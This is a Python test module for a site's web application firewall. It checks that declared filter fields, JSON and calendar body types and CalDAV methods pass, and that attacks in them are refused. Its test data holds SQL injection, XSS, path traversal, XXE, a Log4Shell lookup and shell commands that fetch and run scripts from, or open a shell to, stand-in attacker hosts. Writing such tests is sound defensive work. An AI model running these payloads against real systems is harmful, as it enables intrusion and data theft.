"""A site's own declared fields, body types and methods (waf.filter_fields, waf.content_types, waf.methods), for a
service of the site's own that no CMS package describes: rendered behind the site's guard, and on the real tier the
declared values pass on the declared paths while the same attacks are refused.

The factory's sites d-<profile> declare ``where`` on /gis/query as a filter-sql field and
``application/x-site-json`` under /api/site/ as a JSON body (factory.SITE_FILTER, factory.SITE_BODY_TYPE);
the p-<profile> sites of the same profile declare nothing.
"""

from __future__ import annotations

import json
import urllib.parse
from xml.sax.saxutils import escape as xml_escape

import pytest

from sitegroup.waf import filter_fields, render_files
from tests.waf import attacks, factory
from tests.waf.conftest import Tier
from tests.waf.factory import BLOCKING, GATEWAY, declared_host, profile_host
from tests.waf.harness import Req, as_citizens, send
from tests.waf.test_filter_fields import (
    BOOLEAN,
    BOOLEAN_INJECTIONS,
    CONDITION_INJECTIONS,
    CONDITIONS,
    FILTERS,
    FORMULA_INJECTIONS,
    FORMULAS,
    INJECTIONS,
    SHEET_FORMULA_INJECTIONS,
    SHEET_FORMULAS,
)
from tests.waf.test_render import OPTS

TYPE = "application/x-site-json; charset=utf-8"
LETTER = {"title": "关于增设便民服务点的建议",
          "content": "建议在城关镇增设一个便民服务点，老人办事不用再跑远路。联系人：王老师 (13800000000)",
          "tags": ["便民", "服务"], "contact": {"name": "张三", "phone": "0851-12345678"}}
BODY_ATTACKS = ["1' union select username,password from users--", "<script>alert(document.cookie)</script>",
                "; cat /etc/passwd", "../../../../etc/passwd"]


def _where(host: str, value: str, port: int) -> int:
    q = urllib.parse.urlencode({"where": value, "outFields": "*", "f": "json"})
    return send(port, host, as_citizens([Req("GET", f"/gis/query?{q}", dict(attacks.BASE))])[0], source=GATEWAY).status


def _raw(port: int, host: str, path: str, body: str, ctype: str) -> int:
    req = Req("POST", path, {**attacks.BASE, "Content-Type": ctype}, body)
    return send(port, host, as_citizens([req])[0], source=GATEWAY).status


def _post(port: int, host: str, path: str, doc: dict, ctype: str = TYPE) -> int:
    return _raw(port, host, path, json.dumps(doc, ensure_ascii=False), ctype)


def test_the_site_file_declares_them_behind_its_guard() -> None:
    files = render_files(factory.test_environment(), OPTS)
    text = files["sites/d-strict.rules.conf"]
    guard = text.index('SecRule TX:sg_site "!@streq d-strict"')
    assert guard < text.index("ctl:requestBodyProcessor=JSON") < text.index("SecMarker END-SITE-d-strict")
    assert guard < text.index("setvar:tx.sg_filter_") < text.index("SecMarker END-SITE-d-strict")
    assert "ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:where" in text
    assert r"\Aapplication/x-site-json(?:" in text
    assert "sites/p-strict.rules.conf" not in files  # nothing declared, no exception: no file


@pytest.mark.slow
@pytest.mark.parametrize("profile", BLOCKING)
def test_a_declared_filter_field_passes_filters_and_refuses_injections(tier: Tier, profile: str) -> None:
    host = declared_host(profile)
    refused = [v for v in FILTERS if _where(host, v, tier.port) != 200]
    assert not refused, f"{profile}: ordinary filters refused on the declaring site: {refused}"
    # A value that is not wholly the grammar meets every rule: whatever the undeclared site refuses, this
    # one refuses too (an open string or a backtick is not an attack every profile refuses).
    refused_plain = [v for v in INJECTIONS if _where(profile_host(profile), v, tier.port) == 403]
    served = [v for v in refused_plain if _where(host, v, tier.port) != 403]
    assert len(refused_plain) >= 12 and not served, f"{profile}: injections served in the declared field: {served}"
    # The declaration is what lets the filters through: the same filters on a site that declares nothing.
    plain = [v for v in FILTERS if _where(profile_host(profile), v, tier.port) != 200]
    assert plain, f"{profile}: every filter passes without the declaration; the test shows nothing"


@pytest.mark.slow
@pytest.mark.parametrize("profile", BLOCKING)
def test_a_declared_body_type_is_read_field_by_field(tier: Tier, profile: str) -> None:
    host = declared_host(profile)
    assert _post(tier.port, host, "/api/site/letters", LETTER) == 200
    # Parsed, not waved through: an attack in any field is refused.
    for attack in BODY_ATTACKS:
        assert _post(tier.port, host, "/api/site/letters", {**LETTER, "content": attack}) == 403, attack
        assert _post(tier.port, host, "/api/site/letters", {**LETTER, "tags": ["便民", attack]}) == 403, attack
    # Only that type with the declared parameters, only on the declared path, only on this site.
    assert _post(tier.port, host, "/api/site/letters", LETTER, TYPE + "; boundary=x") == 403
    assert _post(tier.port, host, "/api/other/letters", LETTER) == 403
    assert _post(tier.port, profile_host(profile), "/api/site/letters", LETTER) == 403


INVITE = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//ZJ Zhengding//Calendar 3.2//CN\r\nMETHOD:REQUEST\r\n"
          "BEGIN:VEVENT\r\nUID:5573296d-6994-44a5-b62f-92abcfb02b18@zzd.zj.gov.cn\r\nDTSTAMP:20270216T023500Z\r\n"
          "DTSTART;TZID=Asia/Shanghai:20270310T093000\r\nDTEND;TZID=Asia/Shanghai:20270310T103000\r\n"
          "SUMMARY:数字政府建设推进例会\r\nDESCRIPTION:视频会议号：8823 4410\\, 分会场请提前调试设备\r\n"
          "ORGANIZER;CN=\"陈思远\":mailto:chensy@zj.gov.cn\r\n"
          "ATTENDEE;CN=\"刘明\";ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:liuming@zj.gov.cn\r\n"
          "END:VEVENT\r\nEND:VCALENDAR\r\n")
CALENDAR_TYPE = "text/calendar; charset=utf-8; method=REQUEST"


@pytest.mark.slow
@pytest.mark.parametrize("profile", BLOCKING)
def test_a_declared_text_body_type_is_read_whole(tier: Tier, profile: str) -> None:
    """A calendar invitation (text/calendar, iMIP) on the site's own CalDAV paths: passed, and read whole by the
    paranoia-1 attack rules (ADR 0019), so an attack anywhere in it is refused; the type elsewhere is refused."""
    host = declared_host(profile)
    assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE) == 200
    for attack in ("' union select password from sys_user--", "<script>alert(document.cookie)</script>",
                   "${jndi:ldap://203.0.113.5:1389/a}", "; cat /etc/passwd"):
        body = INVITE.replace("分会场请提前调试设备", attack)
        assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", body, CALENDAR_TYPE) == 403, attack
    assert _raw(tier.port, host, "/api/other/inbox/", INVITE, CALENDAR_TYPE) == 403
    assert _raw(tier.port, profile_host(profile), "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE) == 403
    assert _raw(tier.port, host, "/caldav/zhangwei/inbox/", INVITE, CALENDAR_TYPE + "; x=1") == 403

# A CalDAV client's discovery and sync (RFC 4791: PROPFIND with Depth, a calendar-query REPORT, PUT of an event,
# DELETE), as Thunderbird and DAVx5 send them to the d-<profile> sites' /caldav/ (factory.SITE_DAV_METHODS).
PROPFIND = ('<?xml version="1.0" encoding="utf-8"?>\n<d:propfind xmlns:d="DAV:" xmlns:cs="http://calendarserver.org/ns/">'
            "<d:prop><d:displayname/><d:resourcetype/><cs:getctag/></d:prop></d:propfind>")
REPORT = ('<?xml version="1.0" encoding="utf-8"?>\n<c:calendar-query xmlns:d="DAV:" '
          'xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/></d:prop><c:filter>'
          '<c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT">'
          '<c:time-range start="20270301T000000Z" end="20270401T000000Z"/></c:comp-filter></c:comp-filter>'
          "</c:filter></c:calendar-query>")
XML_TYPE = "application/xml; charset=utf-8"


def _dav(port: int, host: str, method: str, path: str, body: str | None = None, ctype: str = XML_TYPE) -> int:
    headers = {**attacks.BASE, "Depth": "1"} | ({"Content-Type": ctype} if body is not None else {})
    return send(port, host, as_citizens([Req(method, path, headers, body)])[0], source=GATEWAY).status


@pytest.mark.slow
@pytest.mark.parametrize("profile", BLOCKING)
def test_declared_methods_are_answered_on_their_paths_only(tier: Tier, profile: str) -> None:
    """PROPFIND, REPORT, PUT and DELETE on the site's own CalDAV paths pass (no profile lists them); their bodies
    are read like a POST's, and the methods are refused on any other path, on a site that declares nothing, in a
    path that only looks like the declared one, and any method the site did not declare (ADR 0036)."""
    host, plain, cal = declared_host(profile), profile_host(profile), "/caldav/zhangwei/calendar/"
    assert _dav(tier.port, host, "PROPFIND", cal, PROPFIND) == 200
    assert _dav(tier.port, host, "REPORT", cal, REPORT) == 200
    assert _dav(tier.port, host, "PUT", cal + "5573296d.ics", INVITE, CALENDAR_TYPE) == 200
    assert _dav(tier.port, host, "DELETE", cal + "5573296d.ics") == 200
    for attack in ("' union select password from sys_user--", "<script>alert(document.cookie)</script>",
                   "${jndi:ldap://203.0.113.5:1389/a}"):
        body = PROPFIND.replace("<d:displayname/>", f"<d:displayname>{xml_escape(attack)}</d:displayname>")
        assert _dav(tier.port, host, "PROPFIND", cal, body) == 403, attack
        assert _dav(tier.port, host, "PUT", cal + "x.ics", INVITE.replace("分会场请提前调试设备", attack),
                    CALENDAR_TYPE) == 403, attack
    xxe = ('<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&x;</d:displayname></d:prop></d:propfind>')
    assert _dav(tier.port, host, "PROPFIND", cal, xxe) == 403
    assert _dav(tier.port, host, "PROPFIND", "/api/other/", PROPFIND) == 403
    assert _dav(tier.port, plain, "PROPFIND", cal, PROPFIND) == 403
    assert _dav(tier.port, host, "MOVE", cal + "5573296d.ics") == 403  # not declared
    assert _dav(tier.port, host, "TRACE", cal) in (403, 405)  # never declarable (nginx itself answers 405)
    assert [p for p in factory.disguised("/caldav/") if _dav(tier.port, host, "PROPFIND", p, PROPFIND) != 403] == []

# Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
               "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS),
               "sheet-formula": ("/sheet/api/cell", "formula", SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS),
               "condition": ("/survey/api/logic", "when", CONDITIONS, CONDITION_INJECTIONS)}
# The paranoia level from which a language's declaration changes what is refused (1: every blocking profile).
LOAD_BEARING_FROM = {"sheet-formula": 2}
# Values of the grammar, so the SQL rules leave them, that other rules refuse on the declaring site: a boolean
# expression's '&&' and '|' are the shell's too, and a formula's division is a path's slash.
# ("A && id" is an expression of two conditions, and no profile refuses it in any parameter, declared or not.)
STILL_REFUSED = {
    "boolean-expression": ["A && whoami", "A || curl", "A && curl evil.example -o x.sh && sh x.sh", "A && wget",
                           "(A|B) | nc -e sh attacker.example 4444", "A && ping -n 3 attacker.example",
                           "A && rm -rf tmp", "A && powershell -enc abc"],
    "formula": ["cat /etc/passwd", "x + etc/shadow"],
    "condition": ["Q1 && curl", "Q1 && whoami", "Q1 || wget", "(Q1 == 1) && powershell"],
    "sheet-formula": ['=A1&" "&"/etc/passwd"', '="<script>alert(1)</script>"', '=A1&"../../../../etc/shadow"'],
}


@pytest.mark.slow
@pytest.mark.parametrize("profile", BLOCKING)
@pytest.mark.parametrize("language", JSON_FIELDS)
def test_declared_boolean_and_formula_fields(tier: Tier, profile: str, language: str) -> None:
    path, key, values, injections = JSON_FIELDS[language]
    host, plain_host = declared_host(profile), profile_host(profile)

    def status(h: str, value: str) -> int:
        return _post(tier.port, h, path, {"id": 7, key: value}, "application/json")

    refused = [v for v in values if status(host, v) != 200]
    assert not refused, f"{profile}: ordinary {language} values refused on the declaring site: {refused}"
    refused_plain = [v for v in injections if status(plain_host, v) == 403]
    served = [v for v in refused_plain if status(host, v) != 403]
    assert len(refused_plain) >= 10 and not served, f"{profile}: injections served in the declared field: {served}"
    plain = [v for v in values if status(plain_host, v) != 200]
    # A sheet's formulas pass PL1 undeclared (942190's copy reads a sheet reference as such since stop 35); the
    # heuristics that refuse them are PL2's and PL3's.
    if factory.load_profile(profile).paranoia >= LOAD_BEARING_FROM.get(language, 1):
        assert plain, f"{profile}: every {language} value passes without the declaration; the test shows nothing"
    assert all(filter_fields.matches(language, c) for c in STILL_REFUSED[language])
    served = [c for c in STILL_REFUSED[language] if status(host, c) != 403]
    assert not served, f"{profile}: commands or paths in a declared {language} field served: {served}"
